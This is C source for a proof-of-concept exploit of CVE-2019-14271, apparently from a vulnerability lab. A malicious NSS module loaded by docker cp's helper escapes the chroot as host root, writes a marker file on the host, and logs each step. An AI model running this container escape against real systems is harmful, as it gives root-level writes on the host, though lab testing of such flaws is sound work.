/*
 * CVE-2019-14271, the attacker's library: planted in the container as the NSS module glibc will
 * dlopen (libnss_compat.so.2 / libnss_files.so.2). Its constructor runs inside whatever process
 * loads it: here the daemon's docker-tar helper, as host root with every capability, outside the
 * container's namespaces, only chrooted into the container root. Root can leave a chroot (chroot
 * into a subdirectory, then walk up from the working directory, which is now outside the root),
 * so the constructor writes the marker at the host path named in the container's /etc/bw-target,
 * then puts the helper back into its chroot so the copy carries on as if nothing happened.
 *
 * Built as a shared object: gcc -shared -fPIC -O2 -Wall -Werror -o <id>.nss.so nss.c
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static void step(int ok, int err, const char *what, const char *detail) {
  char line[4600];
  int n = snprintf(line, sizeof line,
                   "@@bw-step {\"step\":\"attack (NSS module in the cp helper): %s\",\"ok\":%s,\"errno\":\"%s\",\"detail\":\"%s\"}\n",
                   what, ok ? "true" : "false", ok ? "" : strerrorname_np(err), detail);
  if (n > 0 && write(1, line, (size_t)n) < 0) return;
}

__attribute__((constructor)) static void payload(void) {
  char target[4096] = "";
  int fd = open("/etc/bw-target", O_RDONLY | O_CLOEXEC);
  if (fd < 0) return; /* not the lab's helper: do nothing */
  ssize_t n = read(fd, target, sizeof target - 1);
  close(fd);
  if (n <= 0) return;
  target[n] = 0;
  target[strcspn(target, "\n")] = 0;
  char who[128];
  snprintf(who, sizeof who, "loaded in pid %d uid %u", (int)getpid(), (unsigned)geteuid());
  step(1, 0, "constructor runs", who);

  /* Remember the container root to return to it afterwards. */
  int back = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (back < 0) {
    step(0, errno, "open the chroot", "/");
    return;
  }
  if (mkdir("/.bw-escape", 0700) != 0 && errno != EEXIST) {
    step(0, errno, "escape the chroot", "mkdir /.bw-escape");
    close(back);
    return;
  }
  if (chroot("/.bw-escape") != 0) {
    step(0, errno, "escape the chroot", "chroot /.bw-escape");
    close(back);
    return;
  }
  for (int i = 0; i < 64; i++)
    if (chdir("..") != 0) break;
  if (chroot(".") != 0) {
    step(0, errno, "escape the chroot", "chroot to the host root");
  } else {
    int m = open(target, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
    const char msg[] = "written by the container's NSS module, loaded by the docker cp helper as host root\n";
    if (m < 0 || write(m, msg, sizeof msg - 1) != (ssize_t)(sizeof msg - 1))
      step(0, errno, "write the marker on the host", target);
    else
      step(1, 0, "write the marker on the host", target);
    if (m >= 0) close(m);
  }
  /* Back into the container root, as the helper expects. */
  if (fchdir(back) != 0 || chroot(".") != 0 || chdir("/") != 0) step(0, errno, "return into the chroot", "");
  close(back);
}
